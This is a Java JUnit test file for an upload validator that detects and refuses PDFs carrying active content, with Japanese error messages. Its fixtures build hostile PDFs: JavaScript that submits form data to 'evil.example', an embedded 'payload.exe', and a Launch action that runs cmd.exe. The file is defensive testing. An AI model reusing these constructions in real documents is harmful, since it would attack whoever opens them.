package jp.itaku.common.upload;

import jp.itaku.common.problem.ItakuException;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ActivePdfContentTest {

    interface Edit {
        void apply(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Edit edit) throws IOException {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            edit.apply(document);
            document.save(out);
            return out.toByteArray();
        }
    }

    @Test
    void plainPdfPasses() throws IOException {
        byte[] plain = pdf(d -> { });
        assertEquals(Optional.empty(), ActivePdfContent.find(plain));
        ActivePdfContent.refuseIfActive("報告書.pdf", plain);
    }

    @Test
    void documentOpenActionWithJavaScriptIsFound() throws IOException {
        byte[] active = pdf(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x');")));
        assertEquals(Optional.of("JavaScript"), ActivePdfContent.find(active));
    }

    @Test
    void javaScriptInAnAnnotationOnAPageIsFound() throws IOException {
        byte[] active = pdf(d -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setAction(new PDActionJavaScript("this.submitForm('https://evil.example')"));
            d.getPage(0).getAnnotations().add(link);
        });
        assertEquals(Optional.of("JavaScript"), ActivePdfContent.find(active));
    }

    @Test
    void embeddedFileIsFound() throws IOException {
        byte[] carrying = pdf(d -> {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("payload.exe");
            spec.setEmbeddedFile(new PDEmbeddedFile(d, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII))));
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("payload.exe", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            d.getDocumentCatalog().setNames(names);
        });
        assertEquals(Optional.of("埋め込みファイル"), ActivePdfContent.find(carrying));
    }

    @Test
    void launchActionIsFound() throws IOException {
        byte[] launching = pdf(d -> {
            org.apache.pdfbox.cos.COSDictionary action = new org.apache.pdfbox.cos.COSDictionary();
            action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
            action.setItem(COSName.S, COSName.getPDFName("Launch"));
            action.setString(COSName.F, "cmd.exe");
            d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
        });
        assertEquals(Optional.of("外部プログラムの起動"), ActivePdfContent.find(launching));
    }

    @Test
    void passwordProtectedPdfCannotBeCheckedAndIsRefused() throws IOException {
        byte[] locked = pdf(d -> {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "user", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            d.protect(policy);
        });
        assertTrue(ActivePdfContent.find(locked).orElseThrow().contains("パスワード"));
    }

    @Test
    void unparseablePdfIsSearchedForTheNamesInItsBytes() {
        assertEquals(Optional.of("JavaScript"), ActivePdfContent.find(
                "%PDF-1.4\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >> garbage".getBytes(StandardCharsets.ISO_8859_1)));
        assertEquals(Optional.empty(), ActivePdfContent.find("%PDF-1.4 broken".getBytes(StandardCharsets.ISO_8859_1)));
    }

    @Test
    void refusalIsAJapanese422NamingTheFileAndWhatItCarries() throws IOException {
        byte[] active = pdf(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x');")));
        ItakuException refused = assertThrows(ItakuException.class, () -> ActivePdfContent.refuseIfActive("契約書.pdf", active));
        assertEquals(422, refused.status());
        assertTrue(refused.getMessage().contains("PDF「契約書.pdf」にはJavaScriptが含まれているため登録できません"), refused.getMessage());
    }

    @Test
    void otherFilesAreNotLookedAt() {
        ActivePdfContent.refuseIfActive("写真.png", new byte[]{(byte) 0x89, 'P', 'N', 'G', '/', 'J', 'a', 'v', 'a'});
    }
}
